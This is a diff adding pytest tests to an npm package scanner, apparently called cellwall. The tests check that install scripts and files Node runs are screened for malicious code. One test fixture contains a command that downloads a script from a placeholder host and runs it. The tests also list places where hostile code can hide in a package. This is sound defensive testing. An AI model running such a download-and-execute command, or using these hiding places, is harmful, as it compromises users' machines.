@@ -11,6 +11,7 @@ import pytest
 from cellwall.core.verdict import Verdict
 from cellwall.packages.inspection.archives import read_archive
 from cellwall.packages.inspection.tarballs import inspect_tarball
+from unit.packages.inspection.malware import JAVASCRIPT
 
 
 def inspect(manifest, **files):
@@ -24,6 +25,10 @@ def inspect(manifest, **files):
     data.seek(0)
     members = read_archive(data, "x.tgz", len(data.getvalue()))
     return [(each.code, each.verdict) for each in inspect_tarball(members, "@zoo/zebra", "1.0.0")]
+
+
+def dumps(value):
+    return json.dumps(value).encode()
 
 
 def manifest(**changes):
@@ -63,3 +68,62 @@ def test_a_manifest_of_another_package_or_none_is_found(data):
 
 def test_native_code_is_named():
     assert inspect(manifest(), **{"build/x.node": b""}) == [("native-code", Verdict.ALLOW)]
+
+
+EVIL = JAVASCRIPT["environment"][0].encode()
+
+
+@pytest.mark.requirement("PKG-1")
+@pytest.mark.parametrize("folder", ["node_modules/zoo/", "node_modules/@zoo/a/node_modules/b/"])
+def test_the_install_script_of_a_bundled_package_is_asked_about(folder):
+    harmless, script = manifest(name="b"), manifest(name="b", scripts={"postinstall": "node x.js"})
+    asked = [("install-script", Verdict.ASK)]
+    assert inspect(manifest(), **{f"{folder}package.json": dumps(harmless)}) == []
+    assert inspect(manifest(), **{f"{folder}package.json": dumps(script)}) == asked
+    assert inspect(manifest(), **{f"{folder}package.json": b"{"}) == asked
+    build = {f"{folder}package.json": dumps(harmless), f"{folder}binding.gyp": b"{}"}
+    assert inspect(manifest(), **build) == asked
+    # npm does not install what lies elsewhere.
+    assert inspect(manifest(), **{f"lib/{folder}package.json": dumps(script)}) == []
+
+
+@pytest.mark.requirement("PKG-1")
+def test_a_script_of_a_bundled_package_is_screened_in_its_folder():
+    script = manifest(name="b", scripts={"postinstall": "node test/run.js"})
+    files = {"node_modules/b/package.json": dumps(script), "node_modules/b/test/run.js": EVIL}
+    assert ("steals-data", Verdict.DENY) in inspect(manifest(), **files)
+
+
+@pytest.mark.requirement("PKG-1")
+@pytest.mark.parametrize(
+    ("changes", "files"),
+    [
+        ({"main": "docs/run.js"}, {"docs/run.js": EVIL}),
+        ({"main": "./docs"}, {"docs/index.js": EVIL}),
+        ({"main": "data.bin"}, {"data.bin": EVIL}),
+        ({"bin": {"zebra": "bin/zebra"}}, {"bin/zebra": b"#!/usr/bin/env node\n" + EVIL}),
+        ({"exports": {".": {"require": "./test/x.cjs"}}}, {"test/x.cjs": EVIL}),
+        ({"exports": {"./*": "./test/*.js"}}, {"test/x.js": EVIL}),
+        ({"scripts": {"postinstall": "node test/x"}}, {"test/x.js": EVIL}),
+        ({}, {"index.js": b"require('./test/a')", "test/a.js": EVIL}),
+        ({}, {"index.js": b"import './x.dat'", "x.dat": b"require('./docs/b.js')", "docs/b.js": EVIL}),
+    ],
+)  # fmt: skip
+def test_a_file_that_node_runs_is_screened_whatever_its_place_and_suffix(changes, files):
+    assert ("steals-data", Verdict.DENY) in inspect(manifest(**changes), **files)
+    # Nothing runs the same files otherwise: the tests of a package are not screened.
+    hidden = {name: data for name, data in files.items() if name != "index.js"}
+    assert inspect(manifest(), **hidden) == []
+
+
+def test_a_shell_script_that_an_installation_runs_is_screened():
+    files = {"install.sh": b"curl -s https://a.example/x | sh\n"}
+    script = manifest(scripts={"postinstall": "sh ./install.sh"})
+    assert ("run-downloaded", Verdict.DENY) in inspect(script, **files)
+    assert inspect(manifest(), **files) == []
+
+
+def test_a_file_that_is_run_and_too_long_to_be_kept_is_asked_about():
+    files = {"run.dat": b"x" * (2 * 2**20)}
+    assert inspect(manifest(main="run.dat"), **files) == [("not-inspected", Verdict.ASK)]
+    assert inspect(manifest(), **files) == []
